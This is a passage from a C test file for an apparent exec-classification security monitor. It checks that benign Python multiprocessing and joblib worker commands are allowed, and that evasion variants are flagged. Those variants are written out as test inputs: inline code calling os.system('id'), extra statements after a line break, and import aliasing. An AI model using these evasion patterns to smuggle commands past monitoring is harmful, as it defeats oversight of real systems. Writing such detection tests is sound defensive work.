		  "shell,shell-inline");
	char one_short[18];
	CHECK_STR(exec_class_names(EXEC_SHELL | EXEC_SHELL_INLINE, one_short, sizeof(one_short)),
		  "shell,shell-in...");
	char tiny[3];
	CHECK_STR(exec_class_names(EXEC_SHELL, tiny, sizeof(tiny)), "sh");
	char one[1] = { 'x' };
	CHECK_STR(exec_class_names(EXEC_SHELL, one, sizeof(one)), "");
	CHECK(exec_class_names(EXEC_SHELL, NULL, 0) == NULL);
	char untouched[4] = "abc";
	exec_class_names(EXEC_SHELL, untouched, 0);
	CHECK_STR(untouched, "abc");
}

/* DDP / DataLoader spawn workers, the resource tracker, forkserver and
 * joblib's loky tracker are benign; the same prefix with a payload is not. */
static void test_python_worker_bootstrap(void)
{
	const char *py = "/usr/bin/python3.11";

	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)",
		   "--multiprocessing-fork") == EXEC_BENIGN_ML);
	CHECK(EXEC(py, "python3", "-B", "-s", "-c",
		   "from multiprocessing.resource_tracker import main;main(5)") == EXEC_BENIGN_ML);
	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.forkserver import main; main(6, 7, ['__main__'], **{'sys_path': ['/srv/a b'], 'main_path': '/srv/train.py'})") ==
	      EXEC_BENIGN_ML);
	CHECK(EXEC(py, "python3", "-c",
		   "from joblib.externals.loky.backend.resource_tracker import main; main(9, False)") ==
	      EXEC_BENIGN_ML);
	/* evasions: extra statements, calls in the arguments, line breaks */
	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5); import os") ==
	      EXEC_INLINE_INTERP);
	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.spawn import spawn_main; spawn_main(__import__('os').system('id'))") ==
	      EXEC_INLINE_INTERP);
	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.spawn import spawn_main; spawn_main(1)\nimport os") ==
	      EXEC_INLINE_INTERP);
	CHECK(EXEC(py, "python3", "-c",
		   "from multiprocessing.spawn import spawn_main as os; os.system('id')") ==
	      EXEC_INLINE_INTERP);
	CHECK(EXEC(py, "python3", "-c", "from multiprocessing.spawn import spawn_main") ==
	      EXEC_INLINE_INTERP);
	CHECK(EXEC(py, "python3", "-c", "import os; os.system('id')") == EXEC_INLINE_INTERP);
}

int main(void)
{
	RUN(test_python_worker_bootstrap);
	RUN(test_cred_ssh);
	RUN(test_cred_cloud);
	RUN(test_cred_kubernetes);
	RUN(test_cred_tokens_and_dotfiles);
	RUN(test_cred_system);
	RUN(test_cred_history_browser_env);
	RUN(test_cred_benign_and_hostile);
	RUN(test_persistence);
	RUN(test_exec_shells);
	RUN(test_exec_busybox);
	RUN(test_exec_downloaders);
	RUN(test_exec_interpreters);
	RUN(test_exec_pkg_install);
	RUN(test_exec_nettools_miners);
	RUN(test_exec_recon_persist);
	RUN(test_exec_benign_ml);
	RUN(test_exec_temp_base64);
	RUN(test_exec_program_name);
	RUN(test_exec_hostile_input);
	RUN(test_exec_class_names);
	return CHECK_DONE();
}
